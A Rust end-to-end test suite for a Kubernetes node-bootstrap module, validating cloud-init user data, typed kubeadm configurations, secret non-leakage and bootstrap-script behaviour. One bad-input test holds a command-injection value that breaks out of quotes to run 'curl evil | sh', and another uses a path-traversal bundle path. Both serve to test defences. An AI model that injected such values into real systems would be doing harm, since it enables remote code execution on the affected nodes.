//! End-to-end tests of `modules/node-bootstrap` through the real binary.
//!
//! One environment instantiates the module once per role — a stacked-etcd cluster (init, join,
//! worker) and an external-etcd one (init, join, a dedicated member) — with a real random
//! bootstrap token and a real private key in the node bundle, applies it once, and the tests read
//! the outputs. Checked with real peers, which are required (these tests fail, never skip):
//! - every `user_data` with Debian's `cloud-init schema --config-file` (cloud-init 22.4);
//! - every kubeadm document deserialized into typed kubeadm v1beta4 structs below
//!   (`deny_unknown_fields`): YAML is read by PyYAML (`python3 -c 'import yaml'`, a dependency
//!   of cloud-init) and its JSON by serde_json, so no YAML crate is needed;
//! - the bootstrap script with `shellcheck`.
//!
//! Install them with `apt-get install -y cloud-init shellcheck` (scripts/install-deps does).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use serde::de::DeserializeOwned;

use crate::cloud_config::{
    Arg, ClusterConfiguration, InitConfiguration, JoinConfiguration, KUBEADM_API, KubeadmDoc,
    KubeletConfiguration, Run, cloud_init_schema, kubeadm_doc, kubeadm_docs, run, typed,
    write_files, yaml_documents,
};

const ENV: &str = "environments/test";
const LB: &str = "k8s-api-0123456789.elb.eu-west-1.amazonaws.com";
const CA_HASH: &str = "sha256:7f1c2a3b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8";
const K8S: &str = crate::kubeutil::KUBE_VERSION;
const CONTAINERD: &str = "1.6.20~ds1-1+deb12u1";
const POD_CIDR: &str = "192.168.0.0/16";
const SERVICE_CIDR: &str = "172.20.0.0/16";
const DOMAIN: &str = "corp.internal";

/// Dedicated etcd members of the external topology.
const ETCD_MEMBERS: [(&str, &str); 3] =
    [("etcd-a", "10.0.1.20"), ("etcd-b", "10.0.2.20"), ("etcd-c", "10.0.3.20")];

/// (instance, role, node name, node IP, external etcd?)
const NODES: [(&str, &str, &str, &str, bool); 6] = [
    ("cp_init", "control-plane-init", "cp-a", "10.0.1.10", false),
    ("cp_join", "control-plane-join", "cp-b", "10.0.2.10", false),
    ("worker", "worker", "worker-a", "10.0.1.100", false),
    ("ext_init", "control-plane-init", "xcp-a", "10.0.1.11", true),
    ("ext_join", "control-plane-join", "xcp-b", "10.0.2.11", true),
    ("etcd", "etcd", "etcd-a", "10.0.1.20", true),
];

fn etcd_endpoints() -> Vec<String> {
    ETCD_MEMBERS.iter().map(|(_, ip)| format!("https://{ip}:2379")).collect()
}

fn environment() -> String {
    let endpoints: Vec<String> = etcd_endpoints().iter().map(|e| format!("\"{e}\"")).collect();
    let members: Vec<String> =
        ETCD_MEMBERS.iter().map(|(n, ip)| format!("{n} = \"{ip}\"")).collect();
    let mut hcl = format!(
        r#"
# kubeadm bootstrap token "[a-z0-9]{{6}}.[a-z0-9]{{16}}", as environments/dev makes it.
resource "random_string" "token_id" {{
  length  = 6
  upper   = false
  special = false
}}

resource "random_password" "token_secret" {{
  length  = 16
  upper   = false
  special = false
}}

# A real private key in the control-plane bundles: the tests look for it everywhere it must not be.
resource "tls_private_key" "ca" {{
  algorithm = "ECDSA"
}}

locals {{
  token = "${{random_string.token_id.result}}.${{random_password.token_secret.result}}"
  stacked  = {{ topology = "stacked", endpoints = [] }}
  external = {{
    topology  = "external"
    endpoints = [{endpoints}]
    members   = {{ {members} }}
  }}
  cp_files = {{
    "/etc/kubernetes/pki/ca.key" = tls_private_key.ca.private_key_pem
    "/etc/kubernetes/pki/sa.pub" = tls_private_key.ca.public_key_pem
  }}
}}

output "bootstrap_token" {{
  value     = local.token
  sensitive = true
}}

output "ca_key" {{
  value     = tls_private_key.ca.private_key_pem
  sensitive = true
}}
"#,
        endpoints = endpoints.join(", "),
        members = members.join(", "),
    );
    for (instance, role, name, ip, external) in NODES {
        let files = if role.starts_with("control-plane") { "local.cp_files" } else { "{}" };
        hcl.push_str(&format!(
            r#"
module "{instance}" {{
  source             = "../../modules/node-bootstrap"
  cluster_name       = "prod"
  role               = "{role}"
  node_name          = "{name}"
  node_ip            = "{ip}"
  kubernetes_version = "{K8S}"
  containerd_version = "{CONTAINERD}"
  bundle_s3_uri      = "s3://prod-slipway-bootstrap/nodes/{name}/bundle.json"
  apiserver_endpoint = "{LB}"
  etcd               = {etcd}
  pod_cidr           = "{POD_CIDR}"
  service_cidr       = "{SERVICE_CIDR}"
  cluster_domain     = "{DOMAIN}"
  bootstrap_token    = local.token
  ca_cert_hash       = "{CA_HASH}"
  pki_files          = {files}
}}
"#,
            etcd = if external { "local.external" } else { "local.stacked" },
        ));
    }
    for (output, attr, sensitive) in [
        ("user_data", "user_data", false),
        ("kubeadm_config", "kubeadm_config", false),
        ("kubeadm_config_path", "kubeadm_config_path", false),
        ("bundle", "bundle", true),
    ] {
        let entries: Vec<String> =
            NODES.iter().map(|(i, ..)| format!("    {i} = module.{i}.{attr}")).collect();
        hcl.push_str(&format!(
            "\noutput \"{output}\" {{\n  value = {{\n{}\n  }}\n{}}}\n",
            entries.join("\n"),
            if sensitive { "  sensitive = true\n" } else { "" }
        ));
    }
    hcl
}

// ---------------------------------------------------------------------------------------------
// Processes

fn slipway(root: &Path, args: &[&str]) -> Run {
    run(
        Command::new(crate::util::slipway_bin())
            .args(args)
            .current_dir(root)
            .env("NO_COLOR", "1")
            .env_remove("SLIPWAY_STATE_DIR"),
        None,
    )
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The shared, applied environment

struct Fixture {
    root: PathBuf,
    plan_before: Run,
    apply: Run,
    plan_after: Run,
    user_data: BTreeMap<String, String>,
    kubeadm_config: BTreeMap<String, String>,
    kubeadm_config_path: BTreeMap<String, String>,
    bundle: BTreeMap<String, String>,
    token: String,
    ca_key: String,
}

fn json_output<T: DeserializeOwned>(root: &Path, name: &str) -> T {
    let json = slipway(root, &["output", name, "--json", "--dir", ENV])
        .ok(&format!("slipway output {name} --json"))
        .stdout;
    serde_json::from_str(&json).unwrap_or_else(|e| panic!("output {name}: {e}\n{json}"))
}

static FIXTURE: OnceLock<Fixture> = OnceLock::new();

fn fixture() -> &'static Fixture {
    FIXTURE.get_or_init(|| {
        // A static is never dropped, so a TempDir would never be removed: the fixture lives in
        // cargo's per-target scratch directory, named after this process, and each run removes
        // those of earlier runs that have exited.
        let scratch = Path::new(env!("CARGO_TARGET_TMPDIR"));
        crate::util::remove_stale_dirs(scratch, "bootstrap-");
        let root = scratch.join(format!("bootstrap-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        copy_dir(
            &Path::new(env!("CARGO_MANIFEST_DIR")).join("modules/node-bootstrap"),
            &root.join("modules/node-bootstrap"),
        );
        std::fs::create_dir_all(root.join(ENV)).unwrap();
        std::fs::write(root.join(ENV).join("main.hcl"), environment()).unwrap();

        let plan_before = slipway(&root, &["plan", ENV]).ok("plan");
        let apply = slipway(&root, &["apply", ENV, "-auto-approve"]).ok("apply");
        // Once the token and key exist, a plan must still not show them.
        let plan_after = slipway(&root, &["plan", ENV]).ok("plan after apply");
        Fixture {
            user_data: json_output(&root, "user_data"),
            kubeadm_config: json_output(&root, "kubeadm_config"),
            kubeadm_config_path: json_output(&root, "kubeadm_config_path"),
            bundle: json_output(&root, "bundle"),
            token: json_output(&root, "bootstrap_token"),
            ca_key: json_output(&root, "ca_key"),
            root,
            plan_before,
            apply,
            plan_after,
        }
    })
}

// ---------------------------------------------------------------------------------------------
/// (InitConfiguration, ClusterConfiguration) of an init or etcd node.
fn init_and_cluster(instance: &str) -> (InitConfiguration, ClusterConfiguration) {
    let docs = kubeadm_docs(&fixture().kubeadm_config[instance]);
    let mut init = None;
    let mut cluster = None;
    for d in docs {
        match d {
            KubeadmDoc::Init(i) => assert!(init.replace(i).is_none(), "two InitConfigurations"),
            KubeadmDoc::Cluster(c) => {
                assert!(cluster.replace(c).is_none(), "two ClusterConfigurations")
            }
            KubeadmDoc::Join(_) => panic!("{instance}: a JoinConfiguration in an init config"),
        }
    }
    (
        init.unwrap_or_else(|| panic!("{instance}: no InitConfiguration")),
        *cluster.unwrap_or_else(|| panic!("{instance}: no ClusterConfiguration")),
    )
}

fn join(instance: &str) -> JoinConfiguration {
    let mut docs = kubeadm_docs(&fixture().kubeadm_config[instance]);
    assert_eq!(docs.len(), 1, "{instance}: kubeadm join reads one document");
    match docs.pop() {
        Some(KubeadmDoc::Join(j)) => j,
        other => panic!("{instance}: expected a JoinConfiguration, got {other:?}"),
    }
}

fn node(instance: &str) -> (&'static str, &'static str, &'static str, bool) {
    let (_, role, name, ip, external) = NODES
        .iter()
        .find(|n| n.0 == instance)
        .copied()
        .unwrap_or_else(|| panic!("no node {instance}"));
    (role, name, ip, external)
}

const SCRIPT: &str = "/usr/local/sbin/slipway-bootstrap";

// ---------------------------------------------------------------------------------------------
// Tests

#[test]
fn bootstrap_user_data_passes_cloud_init_schema() {
    let f = fixture();
    assert_eq!(f.user_data.len(), NODES.len());
    let dir = f.root.join("user-data");
    std::fs::create_dir_all(&dir).unwrap();
    for (instance, user_data) in &f.user_data {
        assert!(user_data.starts_with("#cloud-config\n"), "{instance}: not a cloud-config");
        // EC2 refuses user data over 16 KiB.
        assert!(user_data.len() < 16 * 1024, "{instance}: user_data is {} bytes", user_data.len());
        let file = dir.join(format!("{instance}.yaml"));
        std::fs::write(&file, user_data).unwrap();
        let r = cloud_init_schema(&file);
        assert_eq!(
            r.code,
            0,
            "{instance}: cloud-init schema rejected user_data:\n{}\n{user_data}",
            r.all()
        );
        assert!(r.stdout.contains("Valid cloud-config"), "{}", r.all());
    }
    // The validator really validates: a wrong type and an unknown write_files key fail.
    let bad = dir.join("bad.yaml");
    std::fs::write(
        &bad,
        "#cloud-config\nwrite_files:\n  - path: /x\n    permissions: 644\n    mode: x\nruncmd: 5\n",
    )
    .unwrap();
    let r = cloud_init_schema(&bad);
    assert_ne!(r.code, 0, "cloud-init schema accepted a bad document");
    assert!(r.all().contains("runcmd"), "{}", r.all());
}

#[test]
fn bootstrap_no_secret_in_user_data_plan_or_apply() {
    let f = fixture();
    assert!(f.token.len() == 23 && f.token.as_bytes()[6] == b'.', "token {:?}", f.token.len());
    let token_secret = &f.token[7..];
    assert!(f.ca_key.contains("PRIVATE KEY"));
    let key_body: String = f.ca_key.lines().filter(|l| !l.starts_with("-----")).collect();

    // The secrets do reach the bundles (so the scans below look for something that exists).
    for (instance, bundle) in &f.bundle {
        let b: serde_json::Value = serde_json::from_str(bundle).unwrap();
        let (role, ..) = node(instance);
        let expected_token = if role == "etcd" {
            serde_json::Value::Null
        } else {
            serde_json::Value::String(f.token.clone())
        };
        assert_eq!(b["bootstrap_token"], expected_token, "{instance}");
        let files = b["files"].as_object().expect("files");
        if role.starts_with("control-plane") {
            assert_eq!(files["/etc/kubernetes/pki/ca.key"], f.ca_key.as_str());
        } else {
            assert!(files.is_empty(), "{instance}: {files:?}");
        }
    }

    // The environment has a `random_password` resource, so "password" is only looked for in
    // what goes to the node.
    let secrets =
        ["PRIVATE KEY", f.token.as_str(), token_secret, key_body.get(..40).unwrap(), "aws_secret"];
    let forbidden = |what: &str, text: &str| {
        for needle in secrets {
            assert!(
                !text.to_lowercase().contains(&needle.to_lowercase()),
                "{what} contains {needle:?}"
            );
        }
    };
    for (instance, user_data) in &f.user_data {
        // Decoded: the bootstrap script travels compressed.
        let user_data = &crate::cloud_config::readable(user_data);
        forbidden(&format!("user_data of {instance}"), user_data);
        assert!(!user_data.to_lowercase().contains("password"), "{instance}");
        forbidden(&format!("kubeadm_config of {instance}"), &f.kubeadm_config[instance]);
    }
    forbidden("plan", &f.plan_before.all());
    forbidden("apply", &f.apply.all());
    forbidden("plan after apply", &f.plan_after.all());
    let shown = slipway(&f.root, &["output", "--dir", ENV]).ok("slipway output");
    forbidden("slipway output", &shown.all());
    // The bundle is sensitive: masked by the CLI, not merely absent.
    assert!(
        f.apply.stdout.contains("bundle = (sensitive value)")
            || f.apply.stdout.contains("bundle = <sensitive>"),
        "{}",
        f.apply.stdout
    );
}

#[test]
fn bootstrap_kubeadm_documents_are_typed_v1beta4() {
    let f = fixture();
    for (instance, text) in &f.kubeadm_config {
        let (role, name, ip, _) = node(instance);
        let docs = kubeadm_docs(text);
        let kinds: Vec<&str> = docs
            .iter()
            .map(|d| match d {
                KubeadmDoc::Init(_) => "InitConfiguration",
                KubeadmDoc::Cluster(_) => "ClusterConfiguration",
                KubeadmDoc::Join(_) => "JoinConfiguration",
            })
            .collect();
        let expected: &[&str] = match role {
            "control-plane-init" | "etcd" => &["InitConfiguration", "ClusterConfiguration"],
            _ => &["JoinConfiguration"],
        };
        assert_eq!(kinds, expected, "{instance}");
        for d in docs {
            let reg = match &d {
                KubeadmDoc::Init(i) => &i.node_registration,
                KubeadmDoc::Join(j) => &j.node_registration,
                KubeadmDoc::Cluster(c) => {
                    assert_eq!(c.kubernetes_version, format!("v{K8S}"));
                    assert_eq!(c.cluster_name, "prod");
                    assert_eq!(c.certificates_dir, "/etc/kubernetes/pki");
                    assert_eq!(c.networking.pod_subnet, POD_CIDR);
                    assert_eq!(c.networking.service_subnet, SERVICE_CIDR);
                    assert_eq!(c.networking.dns_domain, DOMAIN);
                    continue;
                }
            };
            assert_eq!(reg.name, name, "{instance}");
            assert_eq!(
                reg.cri_socket.as_deref(),
                Some("unix:///var/run/containerd/containerd.sock")
            );
            assert_eq!(
                reg.kubelet_extra_args,
                vec![Arg { name: "node-ip".into(), value: ip.into() }]
            );
        }

        // user_data writes exactly this document to the path the output names, and the
        // bootstrap script reads that path.
        let path = &f.kubeadm_config_path[instance];
        assert_eq!(path, &format!("/etc/kubernetes/kubeadm/{role}.yaml"));
        let files = write_files(&f.user_data[instance]);
        let (content, mode) = files
            .get(path)
            .unwrap_or_else(|| panic!("{instance}: user_data does not write {path}"));
        assert_eq!(content, text, "{instance}");
        assert_eq!(mode, "0644");
        assert!(files[SCRIPT].0.contains(&format!("CONFIG='{path}'")));
    }
}

/// Every kubeadm configuration node-bootstrap renders — init, control-plane join and worker
/// join, stacked and external etcd, and a dedicated member's `kubeadm init phase etcd local`
/// configuration — is accepted by the real kubeadm of the release it declares.
#[test]
fn bootstrap_kubeadm_documents_pass_the_real_kubeadm() {
    let f = fixture();
    assert_eq!(f.kubeadm_config.len(), NODES.len());
    let scratch = f.root.join("kubeadm-validate");
    for (instance, text) in &f.kubeadm_config {
        if text.is_empty() {
            continue;
        }
        crate::kubeutil::assert_kubeadm_accepts(instance, text, &f.token, &scratch);
    }
    // And a configuration kubeadm must refuse is refused, so the check above can fail: a
    // kubernetesVersion outside what this kubeadm deploys.
    let (_, text) = f.kubeadm_config.iter().find(|(i, _)| *i == "cp_init").unwrap();
    let old = text.replace(&format!("v{K8S}"), "v1.20.0");
    let out = crate::kubeutil::kubeadm_validate(
        &old.replace("SLIPWAY_BOOTSTRAP_TOKEN", &f.token),
        &scratch,
    );
    assert_ne!(out.code, 0, "kubeadm accepted kubernetesVersion v1.20.0: {}", out.all());
    // And the placeholder itself is not a token kubeadm takes: a missed substitution fails.
    let out = crate::kubeutil::kubeadm_validate(text, &scratch);
    assert_ne!(out.code, 0, "kubeadm accepted the token placeholder: {}", out.all());
}

#[test]
fn bootstrap_typed_structs_reject_misspelt_fields() {
    // The structs would catch a typo in the module: the same document with one key misspelt
    // (kubeadm's is controlPlaneEndpoint) or with a wrong apiVersion fails.
    let good = fixture().kubeadm_config["cp_init"].clone();
    // (yamlencode quotes every key, as Terraform's does.)
    assert!(good.contains("\"controlPlaneEndpoint\":"));
    let misspelt = good.replace("\"controlPlaneEndpoint\":", "\"controlPlaneEndPoint\":");
    let docs = yaml_documents(&misspelt);
    let errors: Vec<String> = docs.into_iter().filter_map(|d| kubeadm_doc(d).err()).collect();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(errors[0].contains("controlPlaneEndPoint"), "{errors:?}");

    let old = good.replace(KUBEADM_API, "kubeadm.k8s.io/v1beta3");
    assert!(yaml_documents(&old).into_iter().all(|d| kubeadm_doc(d).is_err()));
    let join_typo =
        fixture().kubeadm_config["worker"].replace("\"caCertHashes\":", "\"caCertHash\":");
    assert!(kubeadm_doc(yaml_documents(&join_typo).remove(0)).is_err());
}

#[test]
fn bootstrap_control_plane_init_config() {
    for instance in ["cp_init", "ext_init"] {
        let (_, name, ip, _) = node(instance);
        let (init, cluster) = init_and_cluster(instance);
        assert_eq!(cluster.control_plane_endpoint, format!("{LB}:6443"));
        assert_eq!(cluster.api_server.cert_sans, vec![LB.to_string()]);
        // Prometheus on the workers scrapes both on their secure ports (issue #14): bound to
        // every address, not kubeadm's 127.0.0.1; authorization stays on (no flag turns it off).
        for (what, c) in
            [("controllerManager", &cluster.controller_manager), ("scheduler", &cluster.scheduler)]
        {
            let args: Vec<(&str, &str)> =
                c.extra_args.iter().map(|a| (a.name.as_str(), a.value.as_str())).collect();
            assert_eq!(args, [("bind-address", "0.0.0.0")], "{instance} {what}");
        }
        assert_eq!(init.local_api_endpoint.advertise_address, ip);
        assert_eq!(init.local_api_endpoint.bind_port, 6443);
        assert_eq!(init.node_registration.name, name);
        // kubeadm init creates the token the workers join with; its value is a placeholder the
        // node fills from its bundle.
        assert_eq!(init.bootstrap_tokens.len(), 1, "{instance}");
        let t = &init.bootstrap_tokens[0];
        assert_eq!(t.token, "SLIPWAY_BOOTSTRAP_TOKEN");
        assert_eq!(t.ttl.as_deref(), Some("24h0m0s"));
        assert!(t.description.as_deref().unwrap_or("").contains("prod"));
        assert_eq!(t.usages, ["signing", "authentication"]);
        assert_eq!(t.groups, ["system:bootstrappers:kubeadm:default-node-token"]);
    }
}

#[test]
fn bootstrap_worker_and_control_plane_join_config() {
    let worker = join("worker");
    let d = &worker.discovery.bootstrap_token;
    assert_eq!(d.api_server_endpoint, format!("{LB}:6443"));
    assert_eq!(d.ca_cert_hashes, vec![CA_HASH.to_string()]);
    assert_eq!(d.token, "SLIPWAY_BOOTSTRAP_TOKEN");
    assert_eq!(worker.node_registration.name, "worker-a");
    assert!(worker.control_plane.is_none(), "a worker must not join as control plane");

    for instance in ["cp_join", "ext_join"] {
        let (_, name, ip, _) = node(instance);
        let j = join(instance);
        assert_eq!(j.node_registration.name, name);
        assert_eq!(j.discovery.bootstrap_token.api_server_endpoint, format!("{LB}:6443"));
        assert_eq!(j.discovery.bootstrap_token.ca_cert_hashes, vec![CA_HASH]);
        let cp = j.control_plane.unwrap_or_else(|| panic!("{instance}: no controlPlane"));
        assert_eq!(cp.local_api_endpoint.advertise_address, ip);
        assert_eq!(cp.local_api_endpoint.bind_port, 6443);
    }
}

#[test]
fn bootstrap_external_and_stacked_etcd() {
    let (_, ext) = init_and_cluster("ext_init");
    assert!(ext.etcd.local.is_none(), "external topology has local etcd");
    let e = ext.etcd.external.expect("etcd.external");
    assert_eq!(e.endpoints, etcd_endpoints());
    assert_eq!(e.ca_file, "/etc/kubernetes/pki/etcd/ca.crt");
    assert_eq!(e.cert_file, "/etc/kubernetes/pki/apiserver-etcd-client.crt");
    assert_eq!(e.key_file, "/etc/kubernetes/pki/apiserver-etcd-client.key");

    let (_, stacked) = init_and_cluster("cp_init");
    assert!(stacked.etcd.external.is_none());
    let l = stacked.etcd.local.expect("etcd.local");
    assert_eq!(l.data_dir, "/var/lib/etcd");
    for sans in [&l.server_cert_sans, &l.peer_cert_sans] {
        assert!(sans.contains(&"cp-a".to_string()) && sans.contains(&"10.0.1.10".to_string()));
    }
    assert!(l.extra_args.is_empty(), "kubeadm manages stacked membership");

    // A dedicated member: etcd as a static pod under a standalone kubelet, peers from `members`.
    let (init, member) = init_and_cluster("etcd");
    assert_eq!(init.local_api_endpoint.advertise_address, "10.0.1.20");
    assert!(init.bootstrap_tokens.is_empty());
    let m = member.etcd.local.expect("etcd.local on a member");
    let arg = |n: &str| {
        m.extra_args
            .iter()
            .find(|a| a.name == n)
            .map(|a| a.value.clone())
            .unwrap_or_else(|| panic!("no etcd arg {n}"))
    };
    assert_eq!(arg("name"), "etcd-a");
    assert_eq!(
        arg("initial-cluster"),
        "etcd-a=https://10.0.1.20:2380,etcd-b=https://10.0.2.20:2380,etcd-c=https://10.0.3.20:2380"
    );
    assert_eq!(arg("initial-cluster-state"), "new");
    assert_eq!(arg("advertise-client-urls"), "https://10.0.1.20:2379");
    let files = write_files(&fixture().user_data["etcd"]);
    let dropin = &files["/etc/systemd/system/kubelet.service.d/20-etcd-service-manager.conf"].0;
    assert!(dropin.contains(
        "ExecStart=\nExecStart=/usr/bin/kubelet --config=/etc/systemd/system/kubelet.service.d/kubelet.conf "
    ));
    let kubelet: KubeletConfiguration = typed(
        yaml_documents(&files["/etc/systemd/system/kubelet.service.d/kubelet.conf"].0).remove(0),
    )
    .unwrap();
    assert_eq!(
        (kubelet.api_version.as_str(), kubelet.kind.as_str()),
        ("kubelet.config.k8s.io/v1beta1", "KubeletConfiguration")
    );
    assert_eq!(kubelet.cgroup_driver, "systemd");
    assert_eq!(kubelet.static_pod_path, "/etc/kubernetes/manifests");
    assert_eq!(kubelet.address, "127.0.0.1");
    assert!(!kubelet.authentication.anonymous.enabled && !kubelet.authentication.webhook.enabled);
    assert_eq!(kubelet.authorization.mode, "AlwaysAllow");
    // Only the dedicated member replaces the kubelet's service.
    for (instance, user_data) in &fixture().user_data {
        let has = user_data.contains("20-etcd-service-manager.conf");
        assert_eq!(has, *instance == "etcd", "{instance}");
    }
}

#[test]
fn bootstrap_script_pins_packages_and_reads_the_bundle() {
    let f = fixture();
    for (instance, user_data) in &f.user_data {
        let (role, name, ..) = node(instance);
        let files = write_files(user_data);
        let (script, mode) = &files[SCRIPT];
        assert_eq!(mode, "0755");
        let r = run(Command::new("bash").args(["-n", "-c", script]), None);
        assert_eq!(r.code, 0, "{instance}: bash -n: {}", r.all());
        let r = run(Command::new("shellcheck").args(["--shell=bash", "-"]), Some(script));
        assert_eq!(r.code, 0, "{instance}: shellcheck: {}", r.all());
        for needle in [
            format!("ROLE='{role}'"),
            format!("BUNDLE_URI='s3://prod-slipway-bootstrap/nodes/{name}/bundle.json'"),
            "aws s3 cp".to_string(),
            format!("K8S_PACKAGE_VERSION='{K8S}-1.1'"),
            format!("CONTAINERD_VERSION='{CONTAINERD}'"),
            "https://pkgs.k8s.io/core:/stable:/v$K8S_MINOR/deb/".to_string(),
            format!("K8S_MINOR='{}'", &K8S[..K8S.rfind('.').unwrap()]),
            "apt-mark hold containerd kubelet kubeadm kubectl".to_string(),
            "0o600".to_string(),
            "modprobe br_netfilter".to_string(),
        ] {
            assert!(script.contains(&needle), "{instance}: no {needle:?}");
        }
        assert_eq!(files["/etc/modules-load.d/k8s.conf"].0, "overlay\nbr_netfilter\n");
        assert!(files["/etc/sysctl.d/99-kubernetes.conf"].0.contains("net.ipv4.ip_forward = 1"));
        let doc = &yaml_documents(user_data)[0];
        assert_eq!(doc["runcmd"], serde_json::json!([[SCRIPT]]));
        assert!(doc["packages"].as_array().unwrap().contains(&"awscli".into()));
        let command = match role {
            "control-plane-init" => "kubeadm init --config",
            "etcd" => "kubeadm init phase etcd local --config",
            _ => "kubeadm join --config",
        };
        assert!(script.contains(command), "{instance}");
    }
}

#[test]
fn bootstrap_rejects_bad_inputs() {
    let worker_role = "role               = \"worker\"";
    let worker_uri =
        "bundle_s3_uri      = \"s3://prod-slipway-bootstrap/nodes/worker-a/bundle.json\"";
    for (from, to, message) in [
        (worker_role, "role = \"master\"", "role must be one of"),
        // Values quoted in the bootstrap script may not break out of their quotes.
        (
            worker_uri,
            "bundle_s3_uri = \"s3://b/x'; curl evil | sh; '\"",
            "bundle_s3_uri must look like",
        ),
        (worker_uri, "bundle_s3_uri = \"https://b/x\"", "bundle_s3_uri must look like"),
        (
            "kubernetes_version = \"1.35.4\"",
            "kubernetes_version = \"v1.35\"",
            "kubernetes_version must be",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        copy_dir(
            &Path::new(env!("CARGO_MANIFEST_DIR")).join("modules/node-bootstrap"),
            &root.join("modules/node-bootstrap"),
        );
        std::fs::create_dir_all(root.join(ENV)).unwrap();
        let env = environment();
        assert!(env.contains(from), "{from}");
        std::fs::write(root.join(ENV).join("main.hcl"), env.replacen(from, to, 1)).unwrap();
        let r = slipway(root, &["plan", ENV]);
        assert_ne!(r.code, 0, "plan accepted {to}");
        assert!(r.all().contains(message), "{to}: {}", r.all());
    }
}

/// The Python part of the bootstrap script (the heredoc), which writes the bundle and renders
/// the kubeadm config. Its PKI directory is an argument, so it runs here on a temporary tree
/// instead of /etc.
/// The bundle writer (the Python heredoc) of a bootstrap script.
pub(crate) fn bundle_writer(script: &str) -> String {
    let start = script.find("<<'PY'\n").expect("python heredoc") + "<<'PY'\n".len();
    let len = script[start..].find("\nPY\n").expect("heredoc end");
    script[start..start + len].to_string()
}

fn run_bundle_writer(
    program: &str,
    bundle: &serde_json::Value,
    config: &str,
    needs_token: bool,
    dir: &Path,
) -> Run {
    std::fs::write(dir.join("bundle.json"), bundle.to_string()).unwrap();
    std::fs::write(dir.join("config.yaml"), config).unwrap();
    let _ = std::fs::remove_file(dir.join("rendered.yaml"));
    run(
        Command::new("python3")
            .arg("-")
            .arg(dir.join("bundle.json"))
            .arg(dir.join("config.yaml"))
            .arg(dir.join("rendered.yaml"))
            .arg(if needs_token { "true" } else { "false" })
            .arg("SLIPWAY_BOOTSTRAP_TOKEN")
            .arg(dir.join("pki")),
        Some(program),
    )
}

#[test]
fn bootstrap_script_writes_bundle_files_0600_and_substitutes_the_token() {
    use std::os::unix::fs::PermissionsExt as _;
    let f = fixture();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let pki = dir.join("pki");
    let program = bundle_writer(&write_files(&f.user_data["cp_join"])[SCRIPT].0);

    // A control-plane joiner: files land with 0600 and the token reaches the rendered config.
    let key_path = pki.join("ca.key");
    let nested = pki.join("etcd/ca.crt");
    let bundle = serde_json::json!({
        "files": {
            key_path.to_str().unwrap(): f.ca_key,
            nested.to_str().unwrap(): "not a secret\n",
        },
        "bootstrap_token": f.token,
    });
    let config = &f.kubeadm_config["cp_join"];
    run_bundle_writer(&program, &bundle, config, true, dir).ok("bundle writer");
    assert_eq!(std::fs::read_to_string(&key_path).unwrap(), f.ca_key);
    assert_eq!(mode(&key_path), 0o600);
    assert_eq!(mode(&nested), 0o600);
    let rendered_path = dir.join("rendered.yaml");
    assert_eq!(mode(&rendered_path), 0o600);
    let rendered = std::fs::read_to_string(&rendered_path).unwrap();
    assert!(!rendered.contains("SLIPWAY_BOOTSTRAP_TOKEN"));
    let mut docs = kubeadm_docs(&rendered);
    let Some(KubeadmDoc::Join(j)) = docs.pop() else {
        panic!("rendered config is not a JoinConfiguration")
    };
    assert_eq!(j.discovery.bootstrap_token.token, f.token);

    // A path outside the PKI directory is refused before anything is written.
    let outside = dir.join("evil");
    let escape = format!("{}/../evil", pki.display());
    for bad in [outside.to_str().unwrap(), escape.as_str()] {
        let b = serde_json::json!({"files": {bad: "x"}, "bootstrap_token": f.token});
        let r = run_bundle_writer(&program, &b, config, true, dir);
        assert_ne!(r.code, 0, "wrote {bad}");
        assert!(r.stderr.contains("refusing bundle path"), "{}", r.all());
        assert!(!outside.exists());
    }

    // No token, or a malformed one, fails where a token is needed…
    for token in [serde_json::Value::Null, "SLIPWAY_BOOTSTRAP_TOKEN".into()] {
        let b = serde_json::json!({"files": {}, "bootstrap_token": token});
        let r = run_bundle_writer(&program, &b, config, true, dir);
        assert_ne!(r.code, 0, "accepted token {token}");
        assert!(r.stderr.contains("no valid bootstrap_token"), "{}", r.all());
    }
    // …and is not needed by a dedicated etcd member, whose config passes through unchanged.
    let etcd_config = &f.kubeadm_config["etcd"];
    let b = serde_json::json!({"files": {}, "bootstrap_token": null});
    run_bundle_writer(&program, &b, etcd_config, false, dir).ok("etcd bundle writer");
    assert_eq!(&std::fs::read_to_string(&rendered_path).unwrap(), etcd_config);
}
